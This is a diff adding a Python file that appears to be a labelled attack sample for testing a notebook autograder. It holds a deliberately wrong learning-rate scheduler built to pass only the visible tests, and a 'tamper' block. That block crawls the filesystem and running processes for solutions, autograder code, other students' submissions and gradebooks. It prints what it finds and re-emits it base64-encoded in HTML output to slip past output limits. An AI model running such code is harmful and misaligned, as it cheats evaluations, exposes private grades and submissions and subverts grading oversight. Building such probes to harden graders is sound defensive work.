@@ -1,0 +1,172 @@
+# attack: print and display (base64) the source of every grading module it can reach: inspect.getsource of loaded modules; autograder/*.py, solutions and released notebooks found on disk (cwd and parents, /tmp, homes, env paths, /proc/*/cwd, /)
+# assignment: 01_lr_schedules
+# wrong: step() writes the lr into the first param group only once current_step > 60; passes the visible tests, fails step_decay_optimizer only
+class StepDecayScheduler:
+    def __init__(self, optimizer, lr_initial, gamma=0.5, step_size=1000):
+        self.optimizer = optimizer
+        self.lr_initial = lr_initial
+        self.gamma = gamma
+        self.step_size = step_size
+
+    def get_lr(self, step):
+        return self.lr_initial * self.gamma ** (step // self.step_size)
+
+    def step(self, current_step):
+        lr = self.get_lr(current_step)
+        groups = self.optimizer.param_groups
+        for group in (groups if current_step <= 60 else groups[:1]):
+            group["lr"] = lr
+        return lr
+# --- tamper ---
+import os as _os
+import re as _re
+import time as _time
+
+_SKIP_TOP = {"proc", "sys", "dev", "usr", "lib", "lib32", "lib64", "libx32", "bin", "sbin", "boot",
+             "snap", "etc", "var", "lost+found"}
+_SKIP_NAMES = {"site-packages", "dist-packages", "node_modules", ".git", "__pycache__", ".venv",
+               ".cache", ".npm", ".cargo", ".rustup"}
+_ASSIGNMENT = _re.compile(r"^\d\d_[A-Za-z0-9_]+$")
+_FOUND = "FOUND" + "-COURSE-FILE"
+
+
+def _roots():
+    """Everywhere course files might be: cwd and its parents, temp dirs, homes, what the
+    environment and other processes (their cwd, seen through /proc) point at, and /."""
+    found = []
+    try:
+        here = _os.getcwd()
+        found.append(here)
+        while here not in ("/", ""):
+            here = _os.path.dirname(here)
+            found.append(here)
+    except OSError:
+        pass
+    found += ["/tmp", "/var/tmp", "/dev/shm", _os.path.expanduser("~"), "/root", "/home", "/work",
+              "/mnt", "/srv", "/opt", "/data", "/run/user"]
+    for value in list(_os.environ.values()):
+        for part in value.split(_os.pathsep):
+            if part.startswith("/"):
+                found.append(part if _os.path.isdir(part) else _os.path.dirname(part))
+    try:
+        for pid in _os.listdir("/proc"):
+            if pid.isdigit():
+                found.append(f"/proc/{pid}/cwd")
+                try:
+                    target = _os.readlink(f"/proc/{pid}/cwd")
+                    found += [target, _os.path.dirname(target), _os.path.dirname(_os.path.dirname(target))]
+                except OSError:
+                    pass
+    except OSError:
+        pass
+    found.append("/")
+    unique = []
+    for path in found:
+        if path and path not in unique:
+            unique.append(path)
+    return unique
+
+
+def _files(deadline, max_depth=12):
+    """Every regular file under _roots(), until the deadline (time.monotonic())."""
+    seen = set()
+    for root in _roots():
+        stack = [(root, 0)]
+        while stack:
+            if _time.monotonic() > deadline:
+                return
+            path, depth = stack.pop()
+            try:
+                info = _os.stat(path)
+            except OSError:
+                continue
+            if (info.st_dev, info.st_ino) in seen:
+                continue
+            seen.add((info.st_dev, info.st_ino))
+            try:
+                entries = list(_os.scandir(path))
+            except OSError:
+                continue
+            for entry in entries:
+                try:
+                    if entry.is_dir(follow_symlinks=False):
+                        if depth < max_depth and entry.name not in _SKIP_NAMES and \
+                                not (path == "/" and entry.name in _SKIP_TOP):
+                            stack.append((entry.path, depth + 1))
+                    elif entry.is_file(follow_symlinks=False):
+                        yield entry.path
+                except OSError:
+                    pass
+
+
+def _kind(path):
+    """What a file is to the course, or None."""
+    parts = path.split("/")
+    name, folders = parts[-1], parts[:-1]
+    if name == "grades.csv":
+        return "grades"
+    if name == "gradebook.db":
+        return "gradebook"
+    if name.endswith(".json") and "results" in folders:
+        return "result"
+    if name.endswith(".ipynb"):
+        if len(parts) >= 3 and parts[-3] == "release":
+            return "release"
+        if "solutions" in folders or "source" in folders:
+            return "solution"
+        if len(parts) >= 3 and _ASSIGNMENT.match(parts[-2]):
+            return "submission"
+        return "notebook"
+    if name.endswith(".html") and "feedback" in folders:
+        return "feedback"
+    if name.endswith(".py") and "autograder" in folders and "probes" not in folders and \
+            not (parts[-2] == "autograder" and name in ("checks.py", "__init__.py")):
+        return "grader-code"
+    return None
+import base64 as _b64
+import html as _html
+import inspect as _inspect
+import sys as _sys
+
+from IPython.display import HTML as _HTML
+from IPython.display import display as _display
+
+_budget = {"print": 60_000, "html": 200_000}
+
+
+def _show(title, text):
+    """Print it, and put it base64-encoded in an HTML output (a channel with other limits)."""
+    shown = text[:max(0, _budget["print"])]
+    _budget["print"] -= len(shown)
+    if shown:
+        print(f"===== {title}\n{shown}")
+    encoded = _b64.b64encode(text.encode("utf-8", "replace")).decode()[:max(0, _budget["html"])]
+    _budget["html"] -= len(encoded)
+    if encoded:
+        _display(_HTML(f"<pre title='{_html.escape(title)}'>{encoded}</pre>"))
+
+
+# 1. grading code and solutions anywhere on disk: solutions first, then the judges, then the rest
+_found, _shown = {}, 0
+for _path in _files(_time.monotonic() + 12):
+    _what = _kind(_path)
+    if _what in ("solution", "grader-code", "release", "submission", "grades", "result", "gradebook", "feedback"):
+        if _shown < 30:
+            print(_FOUND, _what, _path)
+            _shown += 1
+        _found.setdefault(_what, []).append(_path)
+for _what in ("solution", "grader-code", "release"):
+    for _path in _found.get(_what, []):
+        try:
+            with open(_path, encoding="utf-8", errors="replace") as _handle:
+                _show(_path, _handle.read())
+        except OSError as _error:
+            print("unreadable:", _path, _error)
+# 2. the grading modules this kernel has loaded
+for _name, _module in sorted(_sys.modules.items(), key=lambda item: item[0]):
+    if _module is not None and any(word in _name for word in ("autograder", "nbgrader", "checks", "probe")):
+        try:
+            _show(f"module {_name}", _inspect.getsource(_module))
+        except Exception as _error:
+            print(f"no source for {_name}: {type(_error).__name__}")
+print("leak finished")
